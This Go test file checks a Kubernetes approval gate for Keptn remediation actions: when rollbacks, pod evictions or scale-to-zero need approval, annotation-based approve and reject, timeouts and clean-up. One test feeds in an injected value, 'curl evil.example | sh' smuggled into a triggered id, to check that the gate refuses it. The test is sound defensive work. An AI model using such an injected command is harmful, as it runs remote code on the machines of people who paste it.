package approval

import (
	"context"
	"encoding/json"
	"errors"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/watch"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/kubernetes/fake"
	k8stesting "k8s.io/client-go/testing"

	"github.com/keptn-action-provider/action-provider/internal/action"
	"github.com/keptn-action-provider/action-provider/internal/gate"
	kubeadapt "github.com/keptn-action-provider/action-provider/internal/kube/adapt"
	"github.com/keptn-action-provider/action-provider/internal/workload"
)

const (
	ns = "sockshop-production"
	id = "6de83495-4f83-481c-8dbe-fcceb2e0243b"
)

func deployment(replicas int32, annotations map[string]string) *appsv1.Deployment {
	return &appsv1.Deployment{
		ObjectMeta: metav1.ObjectMeta{Name: "carts", Namespace: ns, UID: "uid-1", Annotations: annotations},
		Spec:       appsv1.DeploymentSpec{Replicas: &replicas},
	}
}

func subject(kind, value, stage string, obj metav1.Object, settings map[string]string) gate.Subject {
	s := gate.Subject{
		Entry: kind, Kind: kind, Namespace: ns,
		Request: action.Request{Action: kind, Value: json.RawMessage(value), Project: "sockshop", Stage: stage, Service: "carts",
			KeptnContext: "ctx-1", TriggeredID: id},
		Settings: settings,
	}
	if obj != nil {
		s.Target, s.Object = workload.Ref{Kind: workload.Deployment, Namespace: ns, Name: "carts"}, obj
	}
	return s
}

func newGate(c kubernetes.Interface, timeout time.Duration) *Gate {
	return New(kubeadapt.Clientset(c), nil, Config{Timeout: timeout, Defaults: true, ProductionStages: DefaultProductionStages,
		ScaleToZero: true, Namespace: "keptn", Identity: "provider-0"}, nil)
}

func TestNeeds(t *testing.T) {
	d := deployment(2, nil)
	for _, c := range []struct {
		name string
		s    gate.Subject
		cfg  func(*Config)
		want string // "" for no approval
	}{
		{"scale to 0, absolute string", subject("scale", `{"replicas": "0"}`, "dev", d, nil), nil, "scaling deployment sockshop-production/carts from 2 to 0 replicas"},
		{"scale to 0, absolute number", subject("scale", `{"replicas": 0}`, "dev", d, nil), nil, "to 0 replicas"},
		{"scale to 0, relative", subject("scale", `{"replicas": "-2"}`, "dev", d, nil), nil, "from 2 to 0"},
		{"scale to 0, bare relative", subject("scale", `"-2"`, "dev", d, nil), nil, "from 2 to 0"},
		{"scale to 0 with an unset spec.replicas", subject("scale", `-1`, "dev", &appsv1.Deployment{}, nil), nil, "from 1 to 0"},
		{"scale to 2", subject("scale", `{"replicas": 2}`, "dev", d, nil), nil, ""},
		{"scale down by 1", subject("scale", `"-1"`, "dev", d, nil), nil, ""},
		{"scale to 0 where the bound refuses it", subject("scale", `{"replicas": 0}`, "dev", d, nil), func(c *Config) { c.ScaleToZero = false }, ""},
		{"delete-pods all", subject("delete-pods", `{"all": true, "maxPods": 1}`, "dev", d, nil), nil, `evicting every pod of deployment sockshop-production/carts ("all": true)`},
		{"delete-pods unhealthy", subject("delete-pods", ``, "dev", d, nil), nil, ""},
		{"rollback in production", subject("rollback", `{}`, "production", d, nil), nil, `rolling back deployment sockshop-production/carts in production stage "production"`},
		{"rollback in Prod", subject("rollback", ``, "Prod", d, nil), nil, `production stage "Prod"`},
		{"rollback in staging", subject("rollback", ``, "staging", d, nil), nil, ""},
		{"rollback in a stage the catalog names", subject("rollback", ``, "live", d, nil), func(c *Config) { c.ProductionStages = []string{"live"} }, `stage "live"`},
		{"never", subject("rollback", ``, "production", d, map[string]string{Rule: "never"}), nil, ""},
		{"required", subject("restart", ``, "dev", d, map[string]string{Rule: "required"}), nil, `entry "restart" (restart on deployment sockshop-production/carts) has guardrails.approval: required`},
		{"required without a target", subject("webhook", `{}`, "dev", nil, map[string]string{Rule: "required"}), nil, `entry "webhook" (webhook sockshop-production) has guardrails.approval: required`},
		{"defaults off", subject("rollback", ``, "production", d, nil), func(c *Config) { c.Defaults = false }, ""},
		{"required with the defaults off", subject("restart", ``, "dev", d, map[string]string{Rule: "required"}), func(c *Config) { c.Defaults = false }, "required"},
	} {
		t.Run(c.name, func(t *testing.T) {
			g := newGate(nil, time.Minute)
			if c.cfg != nil {
				c.cfg(&g.cfg)
			}
			n, ok := g.needs(c.s)
			switch {
			case c.want == "" && ok:
				t.Errorf("asks for approval: %s", n.why)
			case c.want != "" && (!ok || !strings.Contains(n.why, c.want)):
				t.Errorf("got %v %q, want approval %q", ok, n.why, c.want)
			}
		})
	}
}

// run admits s on another goroutine and returns its answer.
func run(ctx context.Context, g *Gate, s gate.Subject) <-chan error {
	done := make(chan error, 1)
	go func() {
		_, err := g.Admit(ctx, s)
		done <- err
	}()
	return done
}

// watchEvents watches the Events of namespace, as a person waiting to
// approve would.
func watchEvents(ctx context.Context, t *testing.T, c kubernetes.Interface, namespace string) watch.Interface {
	t.Helper()
	w, err := c.CoreV1().Events(namespace).Watch(ctx, metav1.ListOptions{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(w.Stop)
	return w
}

// awaitPending waits on w for the ApprovalPending Event, which the gate
// records once the target is marked.
func awaitPending(t *testing.T, w watch.Interface) {
	t.Helper()
	for ev := range w.ResultChan() {
		if e, ok := ev.Object.(*corev1.Event); ok && e.Reason == ReasonPending {
			return
		}
	}
	t.Fatal("watch ended before the approval was pending")
}

func annotate(ctx context.Context, t *testing.T, c kubernetes.Interface, key, value string) {
	t.Helper()
	b, _ := json.Marshal(map[string]any{"metadata": map[string]any{"annotations": map[string]string{key: value}}})
	if _, err := c.AppsV1().Deployments(ns).Patch(ctx, "carts", types.MergePatchType, b, metav1.PatchOptions{FieldManager: "kubectl-annotate"}); err != nil {
		t.Fatal(err)
	}
}

func events(ctx context.Context, t *testing.T, c kubernetes.Interface, namespace string) []corev1.Event {
	t.Helper()
	l, err := c.CoreV1().Events(namespace).List(ctx, metav1.ListOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return l.Items
}

func reasons(evs []corev1.Event) string {
	var r []string
	for _, e := range evs {
		r = append(r, e.Type+" "+e.Reason)
	}
	return strings.Join(r, ", ")
}

func annotations(ctx context.Context, t *testing.T, c kubernetes.Interface) map[string]string {
	t.Helper()
	d, err := c.AppsV1().Deployments(ns).Get(ctx, "carts", metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return d.Annotations
}

func TestGranted(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	d := deployment(2, map[string]string{"owner": "team-carts"})
	c := fake.NewClientset(d)
	w := watchEvents(ctx, t, c, ns)
	done := run(ctx, newGate(c, time.Minute), subject("rollback", ``, "production", d, nil))
	awaitPending(t, w)

	evs := events(ctx, t, c, ns)
	if len(evs) != 1 || evs[0].Reason != ReasonPending || evs[0].Type != corev1.EventTypeWarning || evs[0].InvolvedObject.Name != "carts" {
		t.Fatalf("events %s, want one Warning ApprovalPending on carts", reasons(evs))
	}
	for _, want := range []string{
		"keptn remediation rollback: waits up to 1m0s for approval: rolling back deployment sockshop-production/carts in production stage \"production\"",
		"approve: kubectl annotate deployment/carts -n sockshop-production keptn-action-provider.io/approve=" + id + " --overwrite",
		"reject: kubectl annotate deployment/carts -n sockshop-production keptn-action-provider.io/reject=" + id + " --overwrite",
		"triggeredid " + id,
	} {
		if !strings.Contains(evs[0].Message, want) {
			t.Errorf("pending event %q lacks %q", evs[0].Message, want)
		}
	}
	if r := annotations(ctx, t, c)[RequestKey]; !strings.Contains(r, "approve: kubectl annotate") {
		t.Errorf("request annotation %q", r)
	}

	annotate(ctx, t, c, ApproveKey, id+" alice: dashboards agree")
	if err := <-done; err != nil {
		t.Fatalf("granted: %v", err)
	}
	if got := reasons(events(ctx, t, c, ns)); got != "Warning ApprovalPending, Normal ApprovalGranted" {
		t.Errorf("events: %s", got)
	}
	if a := annotations(ctx, t, c); len(a) != 1 || a["owner"] != "team-carts" {
		t.Errorf("annotations after the approval: %v, want only the owner's", a)
	}
}

func TestRejected(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	d := deployment(2, nil)
	c := fake.NewClientset(d)
	w := watchEvents(ctx, t, c, ns)
	done := run(ctx, newGate(c, time.Minute), subject("delete-pods", `{"all": true}`, "dev", d, nil))
	awaitPending(t, w)
	annotate(ctx, t, c, RejectKey, id)
	err := <-done
	var r *action.Refusal
	if !errors.As(err, &r) || r.Rule != Rule || !strings.Contains(r.Reason, "approval rejected") ||
		!strings.Contains(r.Reason, `evicting every pod of deployment sockshop-production/carts ("all": true)`) {
		t.Fatalf("got %v, want the approval's refusal", err)
	}
	if got := reasons(events(ctx, t, c, ns)); got != "Warning ApprovalPending, Warning ApprovalRejected" {
		t.Errorf("events: %s", got)
	}
	if a := annotations(ctx, t, c); len(a) != 0 {
		t.Errorf("annotations left: %v", a)
	}
}

// A decision that names another triggered id does not decide this one: a
// rejection of another run, written before and during the wait, is
// ignored, and this run's approval admits it.
func TestStaleDecisionIgnored(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	d := deployment(2, map[string]string{RejectKey: "an-earlier-run"})
	c := fake.NewClientset(d)
	w := watchEvents(ctx, t, c, ns)
	done := run(ctx, newGate(c, time.Minute), subject("scale", `{"replicas": 0}`, "dev", d, nil))
	awaitPending(t, w)
	annotate(ctx, t, c, RejectKey, id+"-other")
	annotate(ctx, t, c, ApproveKey, id+"0") // a longer id is another id
	annotate(ctx, t, c, ApproveKey, id)
	if err := <-done; err != nil {
		t.Fatalf("got %v, want the approval of this id", err)
	}
	a := annotations(ctx, t, c)
	if a[RejectKey] != id+"-other" || a[ApproveKey] != "" || a[PendingKey] != "" {
		t.Errorf("annotations after: %v, want the other run's rejection only", a)
	}
}

func TestTimedOut(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	d := deployment(2, nil)
	c := fake.NewClientset(d)
	// The wait itself is what is tested: a short one.
	_, err := newGate(c, 200*time.Millisecond).Admit(ctx, subject("rollback", ``, "prod", d, nil))
	var r *action.Refusal
	if !errors.As(err, &r) || !strings.HasPrefix(r.Reason, "not approved within 200ms: rolling back deployment sockshop-production/carts") ||
		!strings.Contains(r.Reason, "approve with `kubectl annotate deployment/carts -n sockshop-production keptn-action-provider.io/approve="+id) ||
		!strings.Contains(r.Reason, `guardrails.approval: never exempts entry "rollback"`) {
		t.Fatalf("got %v", err)
	}
	if got := reasons(events(ctx, t, c, ns)); got != "Warning ApprovalPending, Warning ApprovalTimedOut" {
		t.Errorf("events: %s", got)
	}
	if a := annotations(ctx, t, c); len(a) != 0 {
		t.Errorf("annotations left: %v", a)
	}
}

func TestPreApproved(t *testing.T) {
	ctx := context.Background()
	d := deployment(2, map[string]string{ApproveKey: id})
	c := fake.NewClientset(d)
	if _, err := newGate(c, time.Minute).Admit(ctx, subject("rollback", ``, "production", d, nil)); err != nil {
		t.Fatalf("an approval written before the request: %v", err)
	}
	if a := annotations(ctx, t, c); len(a) != 0 {
		t.Errorf("annotations left: %v", a)
	}
}

func TestDryRunDoesNotWait(t *testing.T) {
	ctx := context.Background()
	d := deployment(2, nil)
	c := fake.NewClientset(d)
	s := subject("rollback", ``, "production", d, nil)
	s.DryRun = true
	a, err := newGate(c, time.Minute).Admit(ctx, s)
	if err != nil || !strings.Contains(a.Warning, `approval needed (rolling back deployment sockshop-production/carts in production stage "production"): a real run would wait up to 1m0s for `+"`kubectl annotate deployment/carts") {
		t.Fatalf("got %+v %v", a, err)
	}
	for _, act := range c.Actions() {
		if act.GetVerb() != "get" && act.GetVerb() != "list" {
			t.Errorf("a dry run wrote: %s %s", act.GetVerb(), act.GetResource().Resource)
		}
	}
}

func TestNoApprovalNeededWritesNothing(t *testing.T) {
	d := deployment(2, nil)
	c := fake.NewClientset(d)
	a, err := newGate(c, time.Minute).Admit(context.Background(), subject("scale", `{"replicas": 3}`, "production", d, nil))
	if err != nil || a.Warning != "" || a.Done != nil || len(c.Actions()) != 0 {
		t.Fatalf("got %+v %v, %d calls", a, err, len(c.Actions()))
	}
}

// Without a workload the approval is asked on a Lease in the provider's
// namespace.
func TestRequiredWithoutTargetWaitsOnALease(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	c := fake.NewClientset()
	leases := c.CoordinationV1().Leases("keptn")
	w := watchEvents(ctx, t, c, "keptn")
	s := subject("webhook", `{}`, "production", nil, map[string]string{Rule: "required"})
	s.Entry = "page-oncall"
	done := run(ctx, newGate(c, time.Minute), s)
	awaitPending(t, w)
	const name = "approval.page-oncall.sockshop-production.carts"
	evs := events(ctx, t, c, "keptn")
	if len(evs) != 1 || evs[0].InvolvedObject.Kind != "Lease" || evs[0].InvolvedObject.APIVersion != "coordination.k8s.io/v1" ||
		!strings.Contains(evs[0].Message, "approve: kubectl annotate lease/"+name+" -n keptn keptn-action-provider.io/approve="+id) {
		t.Fatalf("events: %+v", evs)
	}
	b, _ := json.Marshal(map[string]any{"metadata": map[string]any{"annotations": map[string]string{ApproveKey: id}}})
	if _, err := leases.Patch(ctx, name, types.MergePatchType, b, metav1.PatchOptions{}); err != nil {
		t.Fatal(err)
	}
	if err := <-done; err != nil {
		t.Fatalf("granted: %v", err)
	}
	l, err := leases.Get(ctx, name, metav1.GetOptions{})
	if err != nil || len(l.Annotations) != 0 {
		t.Errorf("lease after: %v %v", l, err)
	}
}

// The clean-up removes only what is this run's: another run that asked
// since keeps its pending mark.
func TestCleanUpKeepsAnotherRunsMark(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	d := deployment(2, nil)
	c := fake.NewClientset(d)
	w := watchEvents(ctx, t, c, ns)
	done := run(ctx, newGate(c, time.Minute), subject("rollback", ``, "production", d, nil))
	awaitPending(t, w)
	annotate(ctx, t, c, PendingKey, "another-run")
	annotate(ctx, t, c, ApproveKey, id)
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	if a := annotations(ctx, t, c); a[PendingKey] != "another-run" || a[ApproveKey] != "" {
		t.Errorf("annotations after: %v", a)
	}
}

func TestTargetDeletedDuringTheWait(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	d := deployment(2, nil)
	c := fake.NewClientset(d)
	w := watchEvents(ctx, t, c, ns)
	done := run(ctx, newGate(c, time.Minute), subject("rollback", ``, "production", d, nil))
	awaitPending(t, w)
	if err := c.AppsV1().Deployments(ns).Delete(ctx, "carts", metav1.DeleteOptions{}); err != nil {
		t.Fatal(err)
	}
	var r *action.Refusal
	if err := <-done; !errors.As(err, &r) || !strings.Contains(r.Reason, "was deleted while") {
		t.Fatalf("got %v", err)
	}
}

// The wait leaves the action time to act: a deadline that leaves none
// refuses at once.
func TestBoundLeavesRoomToAct(t *testing.T) {
	g := newGate(fake.NewClientset(), 4*time.Minute)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	wait, err := g.bound(ctx, need{why: "x"})
	if err != nil || wait > 90*time.Second || wait < 80*time.Second {
		t.Errorf("wait %s %v, want about 1m30s", wait, err)
	}
	if Longest(5*time.Minute) != 4*time.Minute+30*time.Second || Longest(40*time.Second) != 20*time.Second {
		t.Errorf("Longest: %s %s", Longest(5*time.Minute), Longest(40*time.Second))
	}
	past, cancel2 := context.WithDeadline(context.Background(), time.Now().Add(-time.Second))
	defer cancel2()
	var r *action.Refusal
	if _, err := g.bound(past, need{why: "x"}); !errors.As(err, &r) {
		t.Errorf("a passed deadline: %v", err)
	}
}

// A shutdown during the wait is an error, not a refusal: the provider
// could not do its job.
func TestCancelledWaitIsAnError(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	d := deployment(2, nil)
	c := fake.NewClientset(d)
	w := watchEvents(context.Background(), t, c, ns)
	done := run(ctx, newGate(c, time.Minute), subject("rollback", ``, "production", d, nil))
	awaitPending(t, w)
	cancel()
	var r *action.Refusal
	if err := <-done; err == nil || errors.As(err, &r) || !errors.Is(err, context.Canceled) {
		t.Fatalf("got %v, want an error wrapping context.Canceled", err)
	}
	if a := annotations(context.Background(), t, c); len(a) != 0 {
		t.Errorf("annotations left: %v", a)
	}
}

// A watch that ends, or starts from a version too old, is started again;
// an approval written meanwhile is not missed.
func TestWatchRestarts(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	d := deployment(2, nil)
	c := fake.NewClientset(d)
	var calls atomic.Int32
	c.PrependWatchReactor("deployments", func(k8stesting.Action) (bool, watch.Interface, error) {
		switch calls.Add(1) {
		case 1:
			return true, nil, apierrors.NewResourceExpired("too old resource version")
		case 2:
			w := watch.NewFake()
			w.Stop()
			return true, w, nil
		}
		return false, nil, nil
	})
	w := watchEvents(ctx, t, c, ns)
	done := run(ctx, newGate(c, time.Minute), subject("rollback", ``, "production", d, nil))
	awaitPending(t, w)
	annotate(ctx, t, c, ApproveKey, id)
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	if n := calls.Load(); n < 2 {
		t.Errorf("%d watches, want the expired one and the ended one restarted", n)
	}
}

// A triggered id is pasted into a shell by whoever approves: one that is
// not plainly an id is refused before anything is written.
func TestUnsafeTriggeredIDRefused(t *testing.T) {
	d := deployment(2, nil)
	c := fake.NewClientset(d)
	s := subject("rollback", ``, "production", d, nil)
	s.Request.TriggeredID = "x --overwrite; curl evil.example | sh"
	_, err := newGate(c, time.Minute).Admit(context.Background(), s)
	var r *action.Refusal
	if !errors.As(err, &r) || !strings.Contains(r.Reason, "cannot be written safely in a kubectl command") {
		t.Fatalf("got %v", err)
	}
	for _, a := range c.Actions() {
		if a.GetVerb() != "get" {
			t.Errorf("wrote: %s %s", a.GetVerb(), a.GetResource().Resource)
		}
	}
}

func TestNames(t *testing.T) {
	for v, want := range map[string]bool{
		id: true, " " + id + " ": true, id + " alice": true, id + "\tnote": true,
		id + "0": false, "x" + id: false, "": false, id[:10]: false,
	} {
		if got := names(v, id); got != want {
			t.Errorf("names(%q) = %v", v, got)
		}
	}
	if names("", "") {
		t.Error("an empty id is named by nothing")
	}
}

func TestApprover(t *testing.T) {
	obj := &metav1.ObjectMeta{ManagedFields: []metav1.ManagedFieldsEntry{
		{Manager: "kube-controller-manager", FieldsV1: metav1.NewFieldsV1(`{"f:status":{}}`)},
		{Manager: "kubectl-annotate", FieldsV1: metav1.NewFieldsV1(`{"f:metadata":{"f:annotations":{"f:keptn-action-provider.io/approve":{}}}}`)},
	}}
	if got := approver(obj, ApproveKey, "alice"); got != `by kubectl-annotate ("alice")` {
		t.Errorf("got %s", got)
	}
	if got := approver(&metav1.ObjectMeta{}, RejectKey, ""); got != "through keptn-action-provider.io/reject" {
		t.Errorf("got %s", got)
	}
}
